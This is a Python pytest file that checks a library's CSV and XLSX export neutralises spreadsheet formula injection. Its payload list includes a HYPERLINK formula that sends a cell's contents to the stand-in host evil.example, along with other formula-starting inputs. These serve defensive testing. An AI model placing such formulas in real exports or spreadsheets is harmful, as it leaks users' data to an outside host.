"""kreislauf.exports: CSV and XLSX cells a spreadsheet never runs as formulas."""

from __future__ import annotations

import csv
import io
import math

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kreislauf.exports import FORMULA_STARTS, csv_text, neutral_cell, neutral_text, xlsx_bytes

PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "=1+1")  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_gets_a_leading_apostrophe(payload: str) -> None:
    assert neutral_text(payload) == "'" + payload


@pytest.mark.parametrize("text", ["-2", "-0.5", "3", "12.25", "Anna", "", "a=b", "'=x"])
def test_other_text_and_plain_numbers_stay(text: str) -> None:
    assert neutral_text(text) == text


@pytest.mark.parametrize("number", [-2, -2.5, 0, 3.25, np.float64(-1.5), np.int64(-7)])
def test_numbers_stay_numbers(number: object) -> None:
    assert neutral_cell(number) is number


def test_blanks_are_empty() -> None:
    assert neutral_cell(math.nan) is None and neutral_cell(None) is None
    assert neutral_cell(np.float32("nan")) is None


@given(st.text())
def test_no_neutral_text_starts_a_formula(text: str) -> None:
    out = neutral_text(text)
    assert not out.startswith(FORMULA_STARTS) or out.lstrip("-").replace(".", "").isdigit()
    assert out.removeprefix("'") == text or out == text


def test_csv_neutralises_text_but_not_numbers() -> None:
    text = csv_text(["=header", "n"], [[p, -2.5] for p in PAYLOADS] + [["-2", -3]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["'=header", "n"]
    assert [r[0] for r in rows[1:-1]] == ["'" + p for p in PAYLOADS]
    assert {r[1] for r in rows[1:-1]} == {"-2.5"}
    assert rows[-1] == ["-2", "-3"]


def test_xlsx_text_cells_are_strings_and_numbers_numeric() -> None:
    data = xlsx_bytes(["=header", "n", "text number"], [[p, -2.5, "-2"] for p in PAYLOADS],
                      sheet="responses")  # fmt: skip
    sheet = load_workbook(io.BytesIO(data))["responses"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    assert sheet["A1"].value == "'=header"
    # a CR comes back as a line feed through the standard library's XML parser and as a CR
    # through lxml (openpyxl writes it as a character reference when lxml is installed,
    # which basyx-python-sdk brings along): compare with CRs as line feeds
    read = [sheet.cell(row=i, column=1).value for i in range(2, 2 + len(PAYLOADS))]
    assert [v.replace("\r", "\n") for v in read] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert {sheet.cell(row=i, column=2).value for i in range(2, 2 + len(PAYLOADS))} == {-2.5}
    assert sheet["C2"].value == -2 and sheet["C2"].data_type == "n"


def test_xlsx_control_characters_do_not_break_the_file() -> None:
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a"], [["x\x01y"]], sheet="s")))["s"]
    assert sheet["A2"].value == "x\ufffdy"
